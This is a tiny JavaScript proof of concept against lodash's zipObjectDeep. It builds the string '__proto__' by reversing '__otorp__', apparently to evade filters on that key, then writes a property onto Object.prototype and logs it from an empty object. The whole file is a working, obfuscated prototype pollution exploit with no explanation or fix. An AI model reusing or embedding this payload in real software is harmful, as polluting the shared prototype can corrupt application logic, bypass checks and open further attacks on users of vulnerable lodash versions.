// lodash zipobjectdeep
const _ = require('lodash');
const w = [...'__otorp__'].reverse().join('');
_.zipObjectDeep([w + '.zz'], [1]);
console.log({}.zz);
